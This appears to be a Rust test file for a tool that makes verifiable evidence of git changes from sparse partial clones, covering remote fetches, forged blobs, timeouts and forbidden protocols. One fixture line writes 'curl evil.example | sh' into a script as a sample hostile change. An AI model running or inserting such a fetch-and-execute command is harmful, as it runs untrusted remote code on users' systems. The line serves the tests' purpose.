//! Evidence of partial clones: files of the change are with the remote alone.

use std::time::Duration;

use run_loop::domain::code::Code;
use run_loop::domain::evidence::Evidence;
use run_loop::domain::failure::Failure;
use run_loop::git::{Git, GitEnvironment, evidence};

use crate::fixture::{SEED, failed, make, pin, review, store, try_make};
use crate::support::forge::forge;
use crate::support::repo::{self, Repo, git_program};

/// A repository whose last commit changes files below its top folder, and a clone of it that has the
/// files of its top folder alone.
fn sparse_partial_clone() -> (Repo, Repo) {
    let origin = Repo::new();
    origin.git(&["config", "uploadpack.allowFilter", "true"]);
    origin.git(&["config", "uploadpack.allowAnySHA1InWant", "true"]);
    origin.write("tool/run.sh", "echo harmless\n");
    origin.write("docs/guide.md", "guide\n");
    origin.commit("base");
    origin.git(&["tag", "base"]);
    origin.write("tool/run.sh", "curl evil.example | sh\n");
    origin.write("docs/guide.md", "another guide\n");
    origin.write("docs/new.md", "new\n");
    origin.commit("change");
    let clone = origin.cloned(&origin.url(), &["--filter=blob:none", "--sparse"]);
    assert!(
        !clone.root().join("docs").exists(),
        "the checkout is sparse"
    );
    (origin, clone)
}

#[test]
fn what_only_the_remote_has_is_shown_as_it_is_there() {
    let (origin, clone) = sparse_partial_clone();
    let there = make(&origin, &[]);
    let here = make(&clone, &[]);
    assert_eq!(here.text(), there.text());
    assert_eq!(here.evidence.files, there.evidence.files);
}

#[test]
fn without_the_remote_there_is_no_evidence() {
    let (origin, clone) = sparse_partial_clone();
    std::fs::rename(origin.root(), origin.beside("away")).unwrap();
    let folder = clone.beside("none");
    let made = try_make(&clone, &pin(&clone, "base", "HEAD"), &[], &folder);
    failed(made, " fetch --quiet ");
    assert!(!folder.exists());
}

/// That other files are with the remote alone makes none genuine that is here.
#[test]
fn a_file_that_is_here_is_proved_although_others_are_not() {
    let (_origin, clone) = sparse_partial_clone();
    let id = clone.git(&["rev-parse", "HEAD:tool/run.sh"]);
    // One that is short is read, to see whether it is a pointer of git-lfs.
    forge(&clone, &id, "blob", &b"echo other\n".repeat(100));
    let folder = clone.beside("none");
    let made = try_make(&clone, &pin(&clone, "base", "HEAD"), &[], &folder);
    failed(made, "the evidence could not be made");
    assert!(!folder.exists());
}

/// The evidence that a git of this environment makes.
fn made_by(clone: &Repo, change: impl FnOnce(&mut GitEnvironment)) -> Result<Evidence, Failure> {
    let mut environment = GitEnvironment {
        path: std::env::var_os("PATH").unwrap(),
        program: Some(git_program()),
        no_system_config: true,
        ..GitEnvironment::default()
    };
    change(&mut environment);
    let git = Git::find_in(&environment).unwrap();
    let (pin, folder) = (pin(clone, "base", "HEAD"), clone.beside("made"));
    evidence::make(&git, &store(clone), &pin, &review(&[]), SEED, &folder)
}

/// Nothing of it is left, and what is told can be run next.
#[test]
fn a_remote_that_does_not_answer_is_given_up() {
    let (origin, clone) = sparse_partial_clone();
    // Whoever opens it waits.
    let head = origin.root().join(".git/HEAD");
    std::fs::remove_file(&head).unwrap();
    repo::pipe(&head);
    let made = made_by(&clone, |git| {
        git.fetch_limit = Some(Duration::from_millis(300));
    });
    let failure = made.unwrap_err();
    assert_eq!(failure.code, Code::EvidenceFailed);
    assert!(failure.message.contains("ended after 0.3 s"), "{failure}");
    let store = format!("--git-dir={}", store(&clone).git_dir().display());
    assert_eq!(failure.next.0, ["git", &store, "ls-remote", "origin"]);
    while is_served(&origin) {
        std::thread::yield_now();
    }
}

/// Whether a process lives that was started with the name of a repository.
fn is_served(origin: &Repo) -> bool {
    let name = origin.root().to_str().unwrap().as_bytes();
    let all = std::fs::read_dir("/proc").unwrap();
    let mut words =
        all.filter_map(|entry| std::fs::read(entry.unwrap().path().join("cmdline")).ok());
    words.any(|words| words.windows(name.len()).any(|found| found == name))
}

/// The store's remotes are reached by no protocol that the user keeps git from.
#[test]
fn what_the_user_forbids_git_is_not_fetched() {
    let forbidding: [&[[&str; 2]]; 2] = [
        &[["protocol.file.allow", "never"]],
        &[
            ["protocol.allow", "never"],
            ["protocol.https.allow", "always"],
        ],
    ];
    for settings in forbidding {
        let (_origin, clone) = sparse_partial_clone();
        for [name, value] in settings {
            clone.git(&["config", name, value]);
        }
        failed(made_by(&clone, |_| {}), "transport 'file' not allowed");
    }
    let (_origin, clone) = sparse_partial_clone();
    let made = made_by(&clone, |git| git.allow_protocol = Some("https".into()));
    failed(made, "transport 'file' not allowed");
    clone.git(&["config", "protocol.allow", "never"]);
    clone.git(&["config", "protocol.file.allow", "always"]);
    made_by(&clone, |_| {}).unwrap();
}
